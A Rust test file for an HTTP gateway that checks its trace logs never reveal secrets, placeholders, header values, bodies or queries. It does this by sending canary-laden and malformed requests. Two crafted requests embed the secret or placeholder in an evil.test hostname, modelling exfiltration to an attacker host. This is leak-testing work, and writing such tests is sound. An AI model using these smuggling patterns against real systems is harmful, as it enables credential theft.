//! H13 and the rule of interface section 6: never a header value, body, secret or placeholder in the log.

use ensage_tests::h2::{H2Origin, Message};
use ensage_tests::{Gateway, Raw, Rig, canary, until};
use http::Request;
use serde_json::Value;

use super::lab::{has, lab, rig};

const ENTRIES: &str = r#"
[[enclave.lab.http]]
host = "api.test"
credential = "key"

[enclave.lab.mcp.desk]
url = "https://desk.test/mcp"
tools = ["ok"]

[credential.key]
slot = ["bearer", "header:x-api-key"]
hosts = ["api.test"]
placeholder = "ph-"
env = "KEY"
"#;

/// What must not be seen, each with what it is.
struct Canaries {
    secret: String,
    placeholder: String,
    header: String,
    query: String,
    body: String,
    answer: String,
}

impl Canaries {
    fn all(&self) -> [(&str, &str); 6] {
        [
            ("secret", &self.secret),
            ("placeholder", &self.placeholder),
            ("header", &self.header),
            ("query", &self.query),
            ("body", &self.body),
            ("answer", &self.answer),
        ]
    }
}

/// Traffic of every kind, with a canary wherever a client or an upstream can put one.
fn traffic(rig: &Rig, gateway: &Gateway, canaries: &Canaries) {
    let Canaries { secret, placeholder, header, query, body, .. } = canaries;
    let own = format!("user-agent: {header}\r\nx-thing: {header}\r\nCookie: a={header}\r\n");
    let keyed = format!("{own}Authorization: Bearer {placeholder}\r\n");
    let length = format!("Content-Length: {}\r\n", body.len());
    let h1 = |target: &str, request: &str| {
        let mut raw = rig.tunnel(gateway, target);
        raw.send(request.as_bytes());
        let _ = raw.try_answer("GET");
    };
    for request in [
        // Let through, with the secret going out and coming back.
        format!("GET /v1?q={query} HTTP/1.1\r\nHost: api.test\r\n{keyed}\r\n"),
        format!("POST /v1?q={query} HTTP/1.1\r\nHost: api.test\r\n{keyed}{length}\r\n{body}"),
        // Secret and placeholder where they do not belong.
        format!("GET /{secret}/{placeholder}?k={placeholder} HTTP/1.1\r\nHost: api.test\r\n{own}\r\n"),
        format!("GET /v1?k={placeholder} HTTP/1.1\r\nHost: api.test\r\n{own}\r\n"),
        format!(
            "POST /v1 HTTP/1.1\r\nHost: api.test\r\n{own}Content-Length: {}\r\n\r\n{placeholder}",
            placeholder.len()
        ),
        format!("{placeholder} /v1 HTTP/1.1\r\nHost: api.test\r\n{own}\r\n"),
        format!("GET /v1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {header}\r\n\r\n"),
        // What cannot be read.
        format!("GET /v1 HTTP/1.1\r\nHost: api.test\r\nx-a: {header}\r\n {header}\r\n\r\n"),
        format!("GET /v1 HTTP/1.1\r\nHost: api.test\r\nContent-Length: {header}\r\n\r\n"),
        format!("GET /v1?{query} HTTP/1.1 {header}\r\nHost: {header}\r\n\r\n"),
        format!("GET /v1 HTTP/1.1\r\nHost: {placeholder}\r\n\r\n"),
    ] {
        h1("api.test:443", &request);
    }
    let call = format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"{body}\",\"arguments\":\
         {{\"a\":\"{placeholder}\"}}}}}}"
    );
    for call in [call, body.clone()] {
        h1(
            "desk.test:443",
            &format!(
                "POST /mcp HTTP/1.1\r\nHost: desk.test\r\n{own}Content-Type: application/json\r\n\
                 MCP-Protocol-Version: 2025-11-25\r\nMCP-Session-Id: {header}\r\nContent-Length: {}\r\n\r\n{call}",
                call.len()
            ),
        );
    }
    let client = rig.h2(gateway, "api.test:443");
    for (path, key) in [("/v2", format!("Bearer {placeholder}")), (&format!("/{placeholder}"), header.clone())] {
        let request = Request::post(format!("https://api.test{path}?q={query}")).header("authorization", key);
        let _ = client.ask(request.header("x-thing", header).body(body.clone().into_bytes()).unwrap());
    }
    // A name that does not exist, made of what must not leave.
    let mut raw = Raw::open(gateway.address());
    raw.send(
        format!("CONNECT {placeholder}.evil.test:443 HTTP/1.1\r\nProxy-Authorization: {header}\r\n\r\n").as_bytes(),
    );
    let _ = raw.try_answer("CONNECT");
    let mut raw = Raw::open(gateway.address());
    raw.send(format!("GET http://{secret}.evil.test/?{query} HTTP/1.1\r\nHost: x\r\n{own}\r\n").as_bytes());
    let _ = raw.try_answer("GET");
}

fn logged(format: &str) -> String {
    let rig = rig();
    let answer = canary("answer");
    let said = answer.clone();
    let origin = H2Origin::answering(rig.ca.leaf(&["api.test", "desk.test"]), move |asked| {
        let key = asked.field("authorization").unwrap_or_default().to_owned();
        let mut reply = Message { status: 200, body: format!("{said} {key}").into_bytes(), ..Message::default() };
        reply.fields.insert("x-said", said.parse().unwrap());
        reply.fields.insert("x-key", key.parse().unwrap());
        reply
    });
    rig.configure(&lab(ENTRIES).resolve("*.test:443", origin.address()));
    let secret = canary("key");
    rig.add_secret("key", &secret);
    let canaries = Canaries {
        placeholder: rig.placeholder("key"),
        secret,
        header: canary("header"),
        query: canary("query"),
        body: canary("body"),
        answer,
    };
    let mut gateway = rig.start_in(&[("ENSAGE_LOG", "trace"), ("ENSAGE_LOG_FORMAT", format)]);
    traffic(&rig, &gateway, &canaries);
    assert!(origin.asked().iter().any(|m| m.field("authorization").is_some_and(|f| f.contains(&canaries.secret))));
    assert!(gateway.stop().success());
    let calls = rig.calls().len();
    // What was in the pipe at its end comes after it.
    let log = until("the last event", || Some(gateway.stderr()).filter(|log| log.contains("the gateway has stopped")));
    let lower = log.to_ascii_lowercase();
    for (what, value) in canaries.all() {
        assert!(!has(lower.as_bytes(), value.to_ascii_lowercase().as_bytes()), "the {what} is in the log:\n{log}");
    }
    assert!(calls > 10, "{calls}");
    assert_eq!(log.matches("a call was decided").count(), calls, "one event for each call:\n{log}");
    assert!(log.contains("a connection is served") && log.contains("a call is over"), "{log}");
    log
}

#[test]
fn h13_text_logs_have_no_header_body_secret_or_placeholder() {
    let log = logged("text");
    assert!(log.lines().all(|line| line.starts_with("20") && line.contains("ensage")), "{log}");
}

#[test]
fn h13_json_logs_have_no_header_body_secret_or_placeholder() {
    for line in logged("json").lines() {
        let event: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        let members: Vec<&str> = event.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(members, ["fields", "level", "message", "spans", "target", "time"], "{line}");
        assert!(event["target"].as_str().unwrap().starts_with("ensage"), "a library talks: {line}");
        assert!(event["fields"].is_object() && event["spans"].is_array(), "{line}");
    }
}
